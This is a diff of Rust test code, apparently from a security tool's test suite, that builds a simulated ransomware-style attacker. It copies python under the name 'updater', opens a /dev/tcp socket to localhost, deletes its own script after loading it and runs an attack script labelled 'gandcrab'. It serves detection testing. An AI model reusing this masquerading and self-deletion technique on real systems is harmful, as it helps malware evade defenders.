@@ -42,16 +42,20 @@ fn sha256(path: &Path) -> String {
 fn conspicuous(case: &Case, port: u16) -> Attacker {
     let script = case.dir.path().join("attack.py");
     fs::write(&script, include_str!("attack.py")).unwrap();
-    let python = fs::canonicalize(testkit::tool("the evidence", "python3").unwrap()).unwrap();
+    // The program itself, which `python3` may only be a script in front of.
+    let asked = "import os,sys; print(os.path.realpath(sys.executable)); print(sys.prefix)";
+    let told = Command::new("python3").args(["-c", asked]).output().unwrap().stdout;
+    let told = String::from_utf8(told).unwrap();
+    let (python, home) = told.trim().split_once('\n').unwrap();
     let program = case.dir.path().join("updater");
-    fs::copy(&python, &program).unwrap();
+    fs::copy(python, &program).unwrap();
     let line = format!(
         "exec 3<>/dev/tcp/127.0.0.1/{port}; exec \"$0\" -c 'import os,sys; os.unlink(sys.argv[1]); \
          sys.argv=sys.argv[2:]; exec(compile(open(sys.argv[0]).read(),sys.argv[0],\"exec\"))' \"$0\" \"$@\""
     );
     let mut command = Command::new("bash");
     command.args(["-c", &line]).arg(&program).arg(&script).arg("gandcrab").arg(&case.tree);
-    command.env("BACKUP_PASSWORD", "hunter2-in-the-clear").env("PYTHONHOME", "/usr");
+    command.env("BACKUP_PASSWORD", "hunter2-in-the-clear").env("PYTHONHOME", home);
     Attacker::start(command)
 }
 
